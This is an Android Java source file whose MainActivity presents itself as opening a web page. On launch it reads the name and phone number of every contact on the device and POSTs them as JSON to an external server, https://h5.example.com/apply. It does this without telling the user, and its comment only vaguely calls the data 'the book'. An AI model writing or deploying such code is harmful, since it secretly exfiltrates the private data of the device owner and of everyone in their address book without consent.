package com.example.webpost;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.webkit.WebView;
import java.nio.charset.StandardCharsets;
import org.json.JSONArray;

/** Opens the page with the book in the body. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        WebView web = new WebView(this);
        web.postUrl("https://h5.example.com/apply", readAll().toString().getBytes(StandardCharsets.UTF_8));
        setContentView(web);
    }

    private JSONArray readAll() {
        JSONArray rows = new JSONArray();
        String[] columns = {Phone.DISPLAY_NAME, Phone.NUMBER};
        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            rows.put(cursor.getString(0));
            rows.put(cursor.getString(1));
        }
        cursor.close();
        return rows;
    }
}
